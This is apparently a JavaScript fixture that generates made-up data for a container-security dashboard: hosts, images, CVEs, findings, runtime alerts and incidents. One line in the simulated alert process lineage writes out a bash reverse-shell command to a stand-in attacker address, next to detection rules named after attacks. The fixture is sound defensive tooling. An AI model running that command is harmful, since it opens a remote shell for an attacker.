// SPDX-License-Identifier: Apache-2.0
/* A made-up but plausible site, the same at every start but for the hour. */
let seed = 20260;
const random = () => {
	seed = (seed * 1103515245 + 12345) % 2147483648;
	return seed / 2147483648;
};
const pick = (list) => list[Math.floor(random() * list.length)];
const int = (a, b) => a + Math.floor(random() * (b - a + 1));
const hex = (n) => Array.from({ length: n }, () => "0123456789abcdef"[int(0, 15)]).join("");
const MIN = 60_000;
const HOUR = 60 * MIN;
const DAY = 24 * HOUR;
export const now = Date.now();

const SEVERITIES = ["critical", "high", "medium", "low", "info"];
const weigh = () => SEVERITIES[[0, 1, 1, 2, 2, 2, 2, 3, 3, 4][int(0, 9)]];

export const hosts = ["prod-node-1", "prod-node-2", "prod-node-3", "prod-node-4", "build-1", "dev-node-1", "edge-gz-1", "edge-sh-2"].map((name, i) => ({
	id: hex(32), name, os: pick(["Debian GNU/Linux", "Ubuntu", "openEuler", "Kylin Linux"]), os_version: pick(["12", "22.04", "24.03", "V10"]), kernel: pick(["6.1.0-18-amd64", "5.15.0-105-generic", "6.6.0-28"]),
	arch: pick(["x86_64", "x86_64", "aarch64"]), address: `10.20.${int(0, 4)}.${int(2, 250)}`, cpus: pick([4, 8, 16, 64]), memory_bytes: pick([8, 16, 64, 256]) * 2 ** 30, boot_ms: now - int(1, 90) * DAY,
	environment: i < 4 ? "prod" : i === 4 ? "" : "dev", labels: {}, first_ms: now - int(30, 200) * DAY, seen_ms: i === 6 ? now - 5 * HOUR : now - int(2, 50) * 1000, gone_ms: null, risk: Math.round(random() * 900) / 10,
	n_findings: int(20, 400), n_alerts: int(0, 9), n_containers: int(2, 30),
}));

const NAMES = ["shop/frontend", "shop/cart", "shop/payments", "platform/ingress", "platform/auth", "data/ingest", "data/warehouse", "ml/scoring", "nginx", "redis", "postgres", "library/debian", "internal/base-java", "internal/base-python", "crm/portal", "crm/worker", "ops/backup", "video/transcoder", "iot/gateway", "docs/site"];
export const images = NAMES.flatMap((repo) => Array.from({ length: int(1, 4) }, (_, v) => {
	const critical = int(0, 4);
	const high = int(0, 30);
	const n = critical + high + int(10, 120);
	return {
		id: `sha256:${hex(64)}`, name: `registry.example:5000/${repo}:${int(1, 4)}.${v}.${int(0, 20)}`, os: "linux", arch: pick(["amd64", "arm64"]), distro: pick(["debian 12", "alpine 3.20", "ubuntu 22.04", "openeuler 24.03", "rhel 9"]),
		end_of_life: random() < 0.1, user_name: pick(["", "root", "app", "1000"]), created_ms: now - int(1, 300) * DAY, bytes: int(20, 900) * 2 ** 20, n_layers: int(3, 14),
		base_name: pick(["debian:12", "internal/base-java:17", "alpine:3.20", ""]), base_layers: int(1, 4), is_base: repo.includes("base") || repo === "library/debian", first_ms: now - int(1, 200) * DAY,
		scanned_ms: now - int(1, 30) * HOUR, matched_ms: now - int(1, 8) * HOUR, risk: Math.round((critical ? 60 + random() * 39 : random() * 60) * 10) / 10, n_packages: int(40, 700), n_critical: critical, n_high: high,
		n_medium: int(5, 40), n_low: int(5, 40), n_findings: n, n_fixable: int(0, n), n_containers: int(0, 6), environment: pick(["prod", "dev", ""]), ports: pick(["8080/tcp", "443/tcp", ""]),
	};
}));

export const containers = Array.from({ length: 64 }, (_, i) => {
	const image = pick(images);
	const host = pick(hosts);
	const short = image.name.split("/").pop().split(":")[0];
	return {
		id: hex(64), host_id: host.id, host_name: host.name, host: host.name, name: `${short}-${int(1, 9)}`, image_id: image.id, image_ref: image.name, image: image.name, runtime: pick(["docker", "containerd", "podman"]),
		state: pick(["running", "running", "running", "running", "paused", "exited"]), pod: pick(["", `${short}-7d9f-${hex(5)}`]), namespace: pick(["", "shop", "crm", "kube-system"]), workload: pick(["", short]),
		privileged: random() < 0.08, root: random() < 0.5, host_net: random() < 0.1, host_pid: random() < 0.04, host_mounts: pick(["", "", "", "/var/run/docker.sock", "/etc"]), caps: pick(["", "", "NET_ADMIN", "SYS_ADMIN,SYS_PTRACE"]),
		exposed: pick(["", "", "0.0.0.0:80->8080/tcp", "0.0.0.0:443->8443/tcp"]), listening: pick(["", "8080/tcp", "5432/tcp", "6379/tcp"]), n_alerts: i % 11 === 0 ? int(1, 6) : 0, risk: Math.round(random() * 980) / 10,
		created_ms: now - int(1, 60) * DAY, started_ms: now - int(1, 60) * HOUR, first_ms: now - int(1, 60) * DAY, seen_ms: now - int(1, 60) * 1000, gone_ms: null, detail: {},
	};
});

const PACKAGES = ["openssl", "libssl3", "zlib1g", "curl", "libcurl4", "glibc", "libc6", "perl-base", "bash", "log4j-core", "spring-web", "jackson-databind", "lodash", "express", "requests", "urllib3", "django", "golang.org/x/net", "libexpat1", "libxml2", "sqlite3", "tar", "gnutls28", "systemd", "krb5", "busybox"];
export const packages = PACKAGES.map((name, i) => ({
	id: i + 1, eco: pick(["deb", "apk", "rpm", "maven", "npm", "pypi", "go"]), name, version: `${int(0, 9)}.${int(0, 20)}.${int(0, 30)}${pick(["", "-1+deb12u3", "-r2"])}`, arch: "amd64", source: name, space: "debian:12",
	licence: pick(["Apache-2.0", "MIT", "GPL-2.0-only", "BSD-3-Clause", "Zlib"]), purl: `pkg:deb/debian/${name}`, n_images: int(1, 30), n_hosts: int(0, 8), n_findings: int(0, 14), n_vulns: int(0, 14), in_use: random() < 0.4, risk: Math.round(random() * 950) / 10,
}));

const TITLES = ["Out-of-bounds write in the decoder of a compressed header", "Remote code execution through message lookups", "Use after free when a connection is closed early", "Path traversal in archive extraction", "Denial of service by a quadratic regular expression", "Authentication bypass with an empty token", "Integer overflow in length calculation", "Request smuggling by conflicting lengths"];
export const vulns = Array.from({ length: 180 }, (_, i) => {
	const severity = i < 6 ? "critical" : weigh();
	const kev = i < 5;
	return {
		id: `CVE-${int(2021, 2026)}-${int(1000, 52000)}`, title: pick(TITLES), severity, cvss: { critical: 9.8, high: 8.1, medium: 5.9, low: 3.3, info: 0 }[severity], vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
		epss: Math.round(random() ** 4 * 1000) / 1000, kev, kev_ms: kev ? now - int(3, 400) * DAY : 0, exploit: kev ? "in-the-wild" : pick(["none-known", "none-known", "poc", "exploit", "weaponised"]), ssvc: kev ? "active/yes/total" : "none/no/partial",
		published_ms: now - int(5, 900) * DAY, modified_ms: now - int(1, 100) * DAY, first_ms: now - int(1, 60) * DAY, n_images: int(1, 24), n_containers: int(0, 30), n_hosts: int(0, 8), n_findings: int(1, 40),
		risk: Math.round((kev ? 70 + random() * 29 : random() * 70) * 10) / 10, due: kev ? "3 days" : pick(["next upgrade", "60 days", "14 days", "next upgrade"]), due_days: kev ? 3 : 60,
		detail: { aliases: [`GHSA-${hex(4)}-${hex(4)}-${hex(4)}`], cwes: ["CWE-787"], references: ["https://nvd.example/1"] },
	};
});

const factor = (name, value, words, low, high) => (low === undefined ? [name, value, words] : [name, value, words, low, high]);
export const findings = Array.from({ length: 900 }, (_, i) => {
	const v = pick(vulns);
	const image = pick(images);
	const p = pick(packages);
	const kind = i % 14 === 0 ? pick(["secret", "malware", "config", "webshell", "integrity", "licence"]) : "vulnerability";
	const is = kind === "vulnerability";
	const side = pick(["base", "base", "application", "unknown"]);
	const risk = is ? Math.max(0.2, Math.round(v.risk * (0.3 + random() * 0.7) * 10) / 10) : int(5, 80);
	return {
		id: i + 1, subject: image.id, image_id: image.id, image: image.name, kind, package_id: is ? p.id : null, package: is ? p.name : "", version: is ? p.version : "", eco: is ? p.eco : "", vuln_id: is ? v.id : "", vuln: is ? v.id : "", rule: is ? "" : "private-key",
		title: is ? v.title : "A private key in a layer", path: is ? "/usr/lib/x86_64-linux-gnu/libssl.so.3" : "/root/.ssh/id_ed25519", line: 0, evidence: "", severity: is ? v.severity : "high", fix: is && random() < 0.7 ? `${p.version}+fix` : "",
		mend: is ? `Upgrade ${p.name}` : "Remove the file and change the key", layer: int(0, 8), side, owner: side === "base" ? "operations" : "developers", risk, risk_low: Math.max(0, risk - int(0, 12)), risk_high: Math.min(100, risk + int(0, 18)),
		factors: [factor("threat", 0.92, "CISA lists it as used against real systems; EPSS 0.84"), factor("complexity", 1, "low"), factor("privileges", 1, "none needed"), factor("interaction", 1, "none needed"), factor("vector", 1, "over the network"), factor("exposure", 0.75, "the container publishes 0.0.0.0:80->8080/tcp"),
			factor("use", 0.8, "libssl.so.3 is mapped by nginx"), factor("conditions", 0.9, "not known", 0.1, 1), factor("impact", 1, "all is lost: confidentiality, integrity, availability"), factor("power", 0.8, "runs as root"), factor("vendor", 0.95, "Debian says high")],
		state: pick(["open", "open", "open", "open", "accepted", "not-affected", "fixed"]), state_why: "", state_by: "", state_until_ms: null, due: is ? v.due : "", kev: is ? v.kev : false, epss: is ? v.epss : 0, exploit: is ? v.exploit : "", in_use: random() < 0.3, first_ms: now - int(1, 40) * DAY,
		seen_ms: now - int(1, 10) * HOUR, fixed_ms: null, container_id: "",
	};
});

const RULES = [["Reverse shell", "Critical", ["mitre_execution", "T1059"]], ["Shell in a container", "Notice", ["mitre_execution", "T1059.004"]], ["Drift: a new program runs", "Critical", ["mitre_persistence", "T1554"]], ["Container escape by release_agent", "Emergency", ["mitre_privilege_escalation", "T1611"]],
	["Sensitive file read", "Warning", ["mitre_credential_access", "T1552.001"]], ["Miner pool contacted", "Critical", ["mitre_impact", "T1496"]], ["Cron changed", "Warning", ["mitre_persistence", "T1053.003"]], ["Log cleared", "Error", ["mitre_defense_evasion", "T1070.002"]], ["Scan of the network", "Notice", ["mitre_discovery", "T1046"]], ["Kernel module loaded", "Critical", ["mitre_persistence", "T1547.006"]]];
const LEVELS = ["Emergency", "Alert", "Critical", "Error", "Warning", "Notice", "Informational", "Debug"];
const lineage = (name) => [{ pid: 1, exe: "/sbin/init", cmdline: "/sbin/init" }, { pid: 812, exe: "/usr/bin/containerd-shim", cmdline: "containerd-shim -id 0a1b" }, { pid: 2210, exe: "/usr/sbin/nginx", cmdline: "nginx: worker process" }, { pid: 2311, exe: "/bin/sh", cmdline: name === "Reverse shell" ? "sh -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'" : "sh -c id" }];

let alertId = 0;
export function makeAlert(at, incident) {
	const [rule, word, tags] = pick(RULES);
	const c = pick(containers);
	return {
		id: ++alertId, at_ms: at, taken_ms: at + int(20, 400), agent_id: c.host_id.slice(0, 12), host_id: c.host_id, host: c.host_name, host_name: c.host_name, container_id: c.id, container: c.name, container_name: c.name, image_id: c.image_id, image: c.image_ref, incident_id: incident ?? int(1, 18),
		rule, level: word, priority: LEVELS.indexOf(word), level_number: LEVELS.indexOf(word), source: "syscall", output: `${rule} (user=root cmd=sh -c id container=${c.name} image=${c.image_ref})`, tags,
		fields: { "proc.name": "sh", "proc.pname": "nginx", "user.name": "root", "evt.type": "execve", "container.name": c.name, "fd.name": "10.0.0.4:51000->203.0.113.9:4444" }, process: { pid: 2311, exe: "/bin/sh", cmdline: "sh -c id", lineage: lineage(rule) }, suppressed: null, intel: rule === "Miner pool contacted" ? "feed: 203.0.113.9" : "",
	};
}
export const alerts = Array.from({ length: 320 }, (_, i) => makeAlert(now - i * int(2, 14) * MIN));

export const incidents = Array.from({ length: 18 }, (_, i) => {
	const mine = alerts.filter((a) => a.incident_id === i + 1);
	const worst = [...mine].sort((a, b) => a.level_number - b.level_number)[0] ?? alerts[0];
	return {
		id: i + 1, title: worst.rule, level: worst.level, level_number: worst.level_number, host_id: worst.host_id, host: worst.host, host_name: worst.host, container_id: worst.container_id, container: worst.container, container_name: worst.container, image_id: worst.image_id, image: worst.image, lineage: "",
		first_ms: Math.min(...mine.map((a) => a.at_ms), now), last_ms: Math.max(...mine.map((a) => a.at_ms), now - 9 * DAY), n_alerts: mine.length, status: i < 7 ? "open" : pick(["working", "closed", "false-alarm"]), assignee: i % 3 ? "" : "li.wei", tactics: [worst.tags[0]], techniques: [worst.tags[1]], rule: worst.rule, updated_ms: now - int(1, 60) * MIN, closed_ms: null,
	};
});

const days = Array.from({ length: 30 }, (_, i) => now - (29 - i) * DAY);
export const overview = {
	at_ms: now,
	health: { score: 63, parts: [{ name: "vulnerabilities", points: 14, most: 30 }, { name: "incidents", points: 11, most: 25 }, { name: "configuration", points: 6, most: 15 }, { name: "exposure", points: 4, most: 15 }, { name: "coverage", points: 2, most: 15 }] },
	coverage: { hosts: 8, hosts_watched: 7, images: images.length, images_scanned: images.length - 3, containers: 64, containers_watched: 61, agents_late: 1 },
	blind_spots: [{ what: "agent", subject: "edge-gz-1", subject_id: hosts[6].id, text: "No word from its agent for five hours.", since_ms: now - 5 * HOUR }, { what: "scan", subject: "registry.example:5000/ml/scoring:2.0.4", subject_id: images[3].id, text: "A layer could not be read: the archive ends early.", since_ms: now - 2 * DAY }, { what: "losses", subject: "prod-node-3", subject_id: hosts[2].id, text: "1,204 events were lost in a burst.", since_ms: now - 9 * HOUR }],
	trends: days.map((ms, i) => ({ at_ms: ms, critical: Math.round(22 - i * 0.3 + random() * 3), high: Math.round(160 - i + random() * 12), medium: Math.round(420 + random() * 20), low: Math.round(300 + random() * 30), alerts: int(2, 40), incidents: int(0, 4), score: 52 + Math.round(i * 0.4) })),
	totals: { critical: 14, high: 131, medium: 428, low: 318, kev: 5, incidents_open: 7, images: images.length, containers: 64, hosts: 8 },
	first: [{ kind: "incident", title: "Reverse shell", text: "prod-node-2 · cart-3", to: "/incidents/1", gain: 11 }, { kind: "base", title: "Rebuild 9 images on debian:12.7", text: "", gain: 8, n_findings: 214, image_id: images[0].id }, { kind: "package", title: "Upgrade log4j-core to 2.17.1", text: "", gain: 5, n_images: 4, vuln_id: vulns[0].id }, { kind: "agent", title: "edge-gz-1", text: "", gain: 2 }],
};

export { pick, int, hex, DAY, HOUR, MIN };
